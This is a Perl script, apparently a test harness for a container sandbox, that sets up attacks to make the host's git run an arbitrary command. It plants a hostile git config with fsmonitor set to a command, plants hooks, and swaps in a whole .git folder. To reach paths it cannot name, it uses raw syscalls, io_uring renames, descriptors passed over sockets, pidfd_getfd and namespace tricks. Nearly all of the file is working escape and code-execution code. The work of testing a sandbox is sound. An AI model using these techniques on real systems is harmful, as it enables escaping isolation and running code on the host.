# An attacker's tools, for the tests of the wall. It runs in a container.
#
#   perl attacks.pl <attacks     each line of the input: NAME, a tab, TOP, a tab, COMMAND, a tab, Perl
#   perl attacks.pl PERL         that alone, with TOP and COMMAND in the variables T and RUN
#   ALONE=UID perl attacks.pl    each as that user, in a mount namespace of its own that is a copy: for root, where
#                                nothing is denied
#
# Each attack runs in a child of its own, with $T the top of a repository, $W the workspace that holds it, and $RUN the
# command that the host's git must be brought to run. What it prints and what fails in it is of no interest: the host is
# what is judged.
use strict;
no warnings;
use Socket;
use POSIX ();

my $machine = (POSIX::uname())[4];
my @names = qw(mount umount2 pivot_root chroot unshare setns clone openat mkdirat unlinkat renameat2 linkat symlinkat
  sendmsg recvmsg name_to_handle_at open_by_handle_at fchownat prctl mmap read);
my %numbers = (
    x86_64  => [165, 166, 155, 161, 272, 308, 56, 257, 258, 263, 316, 265, 266, 46, 47, 303, 304, 260, 157, 9, 0],
    aarch64 => [40, 39, 41, 51, 97, 268, 220, 56, 34, 35, 276, 37, 36, 211, 212, 264, 265, 54, 167, 222, 63],
);
my %call;
@call{@names} = @{$numbers{$machine}};
# These have one number everywhere.
%call = (%call, io_uring_setup => 425, io_uring_enter => 426, open_tree => 428, move_mount => 429, fsopen => 430,
    fsconfig => 431, fsmount => 432, fspick => 433, pidfd_open => 434, clone3 => 435, pidfd_getfd => 438,
    mount_setattr => 442, open_tree_attr => 467);

our ($T, $W, $RUN, $FD, $HOLDER, $ROOT, $PROC) = ('', '/workspace');
use constant {AT => -100, NEWNS => 0x20000, NEWUSER => 0x10000000, NEWPID => 0x20000000, DETACH => 2,
    RDONLY => 1, REMOUNT => 32, BIND => 4096, MOVE => 8192, REC => 16384, UNBINDABLE => 1 << 17, PRIVATE => 1 << 18,
    SLAVE => 1 << 19, SHARED => 1 << 20, EMPTY => 0x1000, EXCHANGE => 2, WHITEOUT => 4, PATH => 010000000};

# A system call by its name; -1 if it fails. Perl passes a number as one and a text as a pointer.
sub call { my $name = shift; return syscall($call{$name}, @_) }
sub path { return "" . shift }    # a copy: the kernel may write into what it is given

sub folder { return call('openat', AT, path(shift), 0, 0) }
sub mount_ { my ($what, $where, $kind, $flags) = @_; return call('mount', path($what), path($where), path($kind), $flags, 0) }
sub umount { return call('umount2', path($_[0]), $_[1] // DETACH) }
sub unshare { return call('unshare', $_[0] // NEWNS) }
sub forget { call('mount', path('none'), path($_[0] // '/'), 0, $_[1] // (REC | PRIVATE), 0) }

sub write_to { my ($file, $text) = @_; open(my $out, '>', $file) or return; syswrite($out, $text); close $out }

# -- Planting

sub configuration { return "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = $RUN\n" }
sub hook { return "#!/bin/sh\n$RUN\n" }

# Put a configuration and hooks of ours into the Git folder that a descriptor names. No path leads there.
sub plant_at {
    my $at = shift;
    return if $at < 0;
    put($at, 'evil', 0644, configuration());
    rename_at($at, 'evil', $at, 'config');
    call('mkdirat', $at, path('evil-hooks'), 0755);
    put($at, "evil-hooks/$_", 0755, hook()) for qw(pre-commit post-checkout reference-transaction);
    rename_at($at, 'hooks', $at, 'moved');
    rename_at($at, 'evil-hooks', $at, 'hooks');
    for my $name (qw(evil evil-hooks/pre-commit evil-hooks/post-checkout evil-hooks/reference-transaction)) {
        call('unlinkat', $at, path($name), 0);
    }
    call('unlinkat', $at, path('evil-hooks'), 0x200);
}

sub put {
    my ($at, $name, $mode, $text) = @_;
    my $file = call('openat', $at, path($name), 01101, $mode);    # O_WRONLY, O_CREAT, O_TRUNC
    return if $file < 0;
    POSIX::write($file, $text, length $text);
    POSIX::close($file);
}

sub rename_at { my ($from, $old, $to, $new, $flags) = @_; return call('renameat2', $from, path($old), $to, path($new), $flags // 0) }

sub plant { plant_at(folder(shift)) }

# The same by io_uring, where the kernel does the rename in a thread of its own.
sub plant_by_ring {
    my $at = shift;
    put($at, 'evil', 0644, configuration());
    my ($old, $new) = ("evil\0", "config\0");
    my $parameters = "\0" x 120;
    my $ring = call('io_uring_setup', 4, $parameters);
    return if $ring < 0;
    my ($head, $tail, $mask, $entries, $flags, $dropped, $array) = unpack('x40 L7', $parameters);
    my $queue = call('mmap', 0, 4096, 3, 1, $ring, 0);
    my $requests = call('mmap', 0, 4096, 3, 1, $ring, 0x10000000);
    # RENAMEAT, to be done by a worker (IOSQE_ASYNC).
    my $request = pack('C C S l P P L L Q x24', 35, 16, 0, $at, $new, $old, $at, 0, 1);
    poke($requests, $request);
    poke($queue + $array, pack('L', 0));
    poke($queue + $tail, pack('L', 1));
    call('io_uring_enter', $ring, 1, 1, 1, 0, 0);
}

# Write bytes to an address: the kernel does it, with what we read from a pipe.
sub poke {
    my ($address, $bytes) = @_;
    pipe(my $read, my $write);
    syswrite($write, $bytes);
    call('read', fileno($read), $address, length $bytes);
}

# The whole Git folder in the place of the one that is there.
sub replace_git {
    my $top = shift;
    call('mkdirat', $top, path('evil-git'), 0755);
    call('mkdirat', $top, path("evil-git/$_"), 0755) for qw(objects refs hooks);
    put($top, 'evil-git/HEAD', 0644, "ref: refs/heads/main\n");
    put($top, 'evil-git/config', 0644, configuration());
    # Git obeys nobody's folder but its user's own.
    call('fchownat', $top, path($_), 1000, 1000, 0) for qw(evil-git evil-git/HEAD evil-git/config);
    rename_at($top, '.git', $top, 'old-git');
    rename_at($top, 'evil-git', $top, '.git');
    my $gone = sub { call('unlinkat', $top, path("evil-git/$_[0]"), $_[1]) };
    $gone->($_, 0) for qw(HEAD config);
    $gone->($_, 0x200) for qw(objects refs hooks);
    call('unlinkat', $top, path('evil-git'), 0x200);
}

# -- Processes

# Run code in a child that stays until the attack ends, and return once it has said that it is ready; its pid.
sub beside {
    my $code = shift;
    pipe(my $read, my $write);
    my $pid = fork;
    if (!$pid) {
        close $read;
        $code->();
        syswrite($write, 'x');
        close $write;
        POSIX::pause();
        POSIX::_exit(0);
    }
    close $write;
    sysread($read, my $byte, 1);
    return $pid;
}

# In a child by clone(2) with more flags.
sub cloned {
    my $pid = call('clone', $_[0] | 17, 0, 0, 0, 0);
    return if $pid == 0;
    waitpid($pid, 0) if $pid > 0;
    POSIX::_exit(0);
}

# A new user namespace in which we are root. As root outside we can have it map many ids.
sub new_user {
    my $many = shift;
    my ($uid, $gid) = ($<, $( + 0);
    my $mine = $$;
    pipe(my $read, my $write);
    my $outside = fork;
    if (!$outside) {
        close $write;
        sysread($read, my $byte, 1);
        write_to("/proc/$mine/setgroups", 'deny') unless $many;
        write_to("/proc/$mine/gid_map", $many ? '0 0 65536' : "0 $gid 1");
        write_to("/proc/$mine/uid_map", $many ? '0 0 65536' : "0 $uid 1");
        POSIX::_exit(0);
    }
    unshare(NEWUSER);
    close $write;
    waitpid($outside, 0);
}

# -- Descriptors over sockets

sub send_descriptor {
    my ($socket, $descriptor) = @_;
    my $byte = 'x';
    my $part = pack('P Q', $byte, 1);
    my $control = pack('Q i i i x4', 20, 1, 1, $descriptor);    # SOL_SOCKET, SCM_RIGHTS
    my $message = pack('Q L x4 P Q P Q L x4', 0, 0, $part, 1, $control, 24, 0);
    return call('sendmsg', fileno($socket), $message, 0);
}

sub receive_descriptor {
    my $socket = shift;
    my $byte = ' ';
    my $part = pack('P Q', $byte, 1);
    my $control = "\0" x 24;
    my $message = pack('Q L x4 P Q P Q L x4', 0, 0, $part, 1, $control, 24, 0);
    return -1 if call('recvmsg', fileno($socket), $message, 0) < 1;
    return unpack('x16 i', $control);
}

# Serve descriptors of a folder, or of a file with the flags of open(2), one to each who connects. The path may be longer
# than a socket's may be. With `$is_to_be_taken` it is one of our process: who has it takes the descriptor out of us.
sub serve {
    my ($path, $folder, $flags, $is_to_be_taken) = @_;
    my ($where, $name) = $path =~ m{(.*)/(.*)};
    chdir $where;
    unlink $name;
    socket(my $server, AF_UNIX, SOCK_STREAM, 0);
    bind($server, pack_sockaddr_un($name));
    chmod 0777, $name;
    listen($server, 16);
    my $descriptor = call('openat', AT, path($folder), $flags // 0, 0);
    return if stay();
    if ($is_to_be_taken) {
        POSIX::dup2($descriptor, 9);
        $descriptor = call('pidfd_open', int $$, 0);
    }
    while (accept(my $other, $server)) { send_descriptor($other, $descriptor); close $other }
    POSIX::_exit(0);
}

# Go on in a child that has no other descriptors of the one who started us; true in that one.
sub stay {
    return 1 if fork;
    open(STDIN, '<', '/dev/null'); open(STDOUT, '>', '/dev/null'); open(STDERR, '>', '/dev/null');
    POSIX::setsid();
    return;
}

sub receive {
    my $path = shift;
    my ($where, $name) = $path =~ m{(.*)/(.*)};
    chdir $where;
    socket(my $socket, AF_UNIX, SOCK_STREAM, 0);
    connect($socket, pack_sockaddr_un($name)) or return -1;
    return receive_descriptor($socket);
}

# The descriptor of a process that serves itself.
sub take { return call('pidfd_getfd', receive(shift), 9, 0) }

# -- The attacks

# A process in the namespaces of before, which stays where it is: others reach through it.
sub stay_behind {
    $HOLDER = beside(sub { chdir "$T/.git"; POSIX::dup2(folder("$T/.git"), 9) });
}

my (@left, @attacks);
if (@ARGV) {
    ($T, $RUN, $FD, $HOLDER) = @ENV{qw(T RUN FD HOLDER)};
    $FD = int $FD if defined $FD;
    $PROC = folder('/proc');
    eval shift;
    print STDERR $@ if $@;
    exit;
}
while (my $line = <STDIN>) { chomp $line; push @attacks, [split /\t/, $line, 4] }
for my $attack (@attacks) {
    my ($name, $top, $run, $code) = @$attack;
    my $pid = fork;
    if (!$pid) {
        POSIX::setpgid(0, 0);
        open(STDIN, '<', '/dev/null'); open(STDOUT, '>', '/dev/null'); open(STDERR, '>', $ENV{LOUD} ? "/tmp/loud.$name" : '/dev/null');
        ($T, $RUN) = ($top, $run);
        alarm 5;
        if (defined $ENV{ALONE}) {    # what it does to its namespace is not to be the end of the others
            unshare();
            forget();
            POSIX::setgid($ENV{ALONE});
            POSIX::setuid($ENV{ALONE});
            call('prctl', 4, 1, 0, 0, 0);    # PR_SET_DUMPABLE, or /proc/self would be root's
        }
        $PROC = folder('/proc');
        eval $code;
        print STDERR $@;
        POSIX::_exit(0);
    }
    waitpid($pid, 0);
    kill 'KILL', -$pid;
}
1 while wait > 0;
print "the end\n";
